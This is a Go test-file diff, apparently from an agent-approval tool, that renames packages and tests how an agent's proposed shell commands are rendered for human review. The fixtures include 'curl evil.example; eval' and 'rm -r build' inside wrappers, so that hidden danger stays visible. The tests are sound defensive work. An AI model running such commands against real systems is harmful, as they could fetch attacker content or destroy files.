@@ -1,10 +1,11 @@
-package approval_test
+package render_test
 
 import (
 	"strings"
 	"testing"
 
-	"github.com/tada-run/tada-run/approval"
+	"github.com/tada-run/tada-run/approval/plan/plantest"
+	"github.com/tada-run/tada-run/approval/render"
 )
 
 // wrappedPlan is a plan whose command stands in a text of the agent's program.
@@ -26,7 +27,7 @@ func TestWrapped(t *testing.T) {
 	before, after := strings.Repeat("__SAVED=\"${SAVED-}\"\n", 2000)+"exec bash -c '", "'\n# end"
 	at := len(before)
 	plan := wrappedPlan(before, "rm -r build", after, reason(at+6, at+11), reason(0, at+11+len(after)))
-	p := approval.Render(spell(t, plan), approval.RenderOptions{})
+	p := render.Render(plantest.Bytes(t, plan), render.Options{})
 	text := p.Text()
 	if !p.Truncated || len(p.Lines) > 20 { // somebody could choose by it what is read first
 		t.Errorf("cut %v, inline %v:\n%s", p.Truncated, p.Inline, text)
@@ -39,8 +40,8 @@ func TestWrapped(t *testing.T) {
 	if strings.Index(text, "agent's") > strings.Index(text, "run  ") {
 		t.Errorf("not first:\n%s", text)
 	}
-	full := approval.Render(spell(t, plan), approval.RenderOptions{Full: true})
-	if back, err := approval.Decode(full.Text(), 0); err != nil || string(back) != string(spell(t, plan)) {
+	full := render.Render(plantest.Bytes(t, plan), render.Options{Full: true})
+	if back, err := render.Decode(full.Text(), 0); err != nil || string(back) != string(plantest.Bytes(t, plan)) {
 		t.Errorf("the full page has not all of it: %v", err)
 	}
 }
@@ -49,7 +50,7 @@ func TestWrapped(t *testing.T) {
 func TestDangerInAWrapper(t *testing.T) {
 	before := strings.Repeat("x", 500) + "; curl evil.example; eval '"
 	plan := wrappedPlan(before, "ls", "'", reason(502, 519), reason(400, len(before)+1))
-	if p := approval.Render(spell(t, plan), approval.RenderOptions{}); !strings.Contains(p.Text(), "curl evil.example") {
+	if p := render.Render(plantest.Bytes(t, plan), render.Options{}); !strings.Contains(p.Text(), "curl evil.example") {
 		t.Errorf("hidden:\n%s", p.Text())
 	}
 }
@@ -57,8 +58,8 @@ func TestDangerInAWrapper(t *testing.T) {
 // A text around a command may have been made up: it is answered only after all of it was read.
 func TestUnknownWrapper(t *testing.T) {
 	plan := wrappedPlan(strings.Repeat("true\n", 60)+"eval '", "rm -r build", "'")
-	short := approval.Render(spell(t, plan), approval.RenderOptions{})
-	full := approval.Render(spell(t, plan), approval.RenderOptions{Full: true})
+	short := render.Render(plantest.Bytes(t, plan), render.Options{})
+	full := render.Render(plantest.Bytes(t, plan), render.Options{Full: true})
 	if !short.Truncated || !strings.Contains(short.Text(), "agent's  1│ rm -r build\n") {
 		t.Errorf("%s", short.Text())
 	}
@@ -68,7 +69,7 @@ func TestUnknownWrapper(t *testing.T) {
 	}
 	// With a repeated text nobody can tell which one a reason means, so all of them are shown.
 	twice := wrappedPlan("ls; ", "ls", "; ls", reason(4, 6))
-	if p := approval.Render(spell(t, twice), approval.RenderOptions{}); !strings.Contains(p.Text(), "⟪ls⟫") {
+	if p := render.Render(plantest.Bytes(t, twice), render.Options{}); !strings.Contains(p.Text(), "⟪ls⟫") {
 		t.Errorf("%s", p.Text())
 	}
 }
